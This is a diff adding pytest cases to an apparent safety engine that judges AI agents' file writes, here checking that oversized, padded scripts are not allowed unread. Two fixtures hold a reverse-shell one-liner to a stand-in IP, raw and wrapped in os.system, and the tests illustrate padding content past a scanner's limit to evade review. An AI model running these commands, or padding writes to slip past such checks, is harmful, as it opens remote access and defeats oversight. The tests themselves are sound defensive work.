@@ -44,3 +44,24 @@ def test_a_script_that_would_be_denied_is_denied_when_written(offline_judge, pat
 def test_everyday_scripts_are_written_quietly(offline_judge, path, content):
     v = offline_judge.decide(Action(ActionKind.FILE_WRITE, CTX, path=path, content=content))
     assert v.decision is Decision.ALLOW, [(f.rule_id, f.action) for f in v.findings]
+
+
+# ---- padding: content past what the rules read is never let through unread ----------------------------
+
+@pytest.mark.parametrize("path, tail", [
+    ("scripts/big.sh", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"),
+    ("tools/big.py", "import os; os.system('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')\n"),
+    ("notes/big.txt", "nothing to see\n"),  # unread is unread, whatever the name
+])
+def test_a_write_longer_than_the_rules_read_asks(offline_judge, path, tail):
+    from adr.engine.conditions import MAX_SCAN
+    content = "#!/bin/bash\n" + "# filler line\n" * (MAX_SCAN // 14 + 10) + tail
+    v = offline_judge.decide(Action(ActionKind.FILE_WRITE, CTX, path=path, content=content))
+    assert v.decision is not Decision.ALLOW and "shell.input-too-large" in v.rule_ids, v.rule_ids
+
+
+def test_a_long_write_within_the_bound_is_judged_whole_and_stays_quiet(offline_judge):
+    from adr.engine.conditions import MAX_SCAN
+    content = "#!/bin/sh\n" + "echo generated\n" * (MAX_SCAN // 15 - 10)
+    v = offline_judge.decide(Action(ActionKind.FILE_WRITE, CTX, path="scripts/gen.sh", content=content))
+    assert v.decision is Decision.ALLOW, v.rule_ids
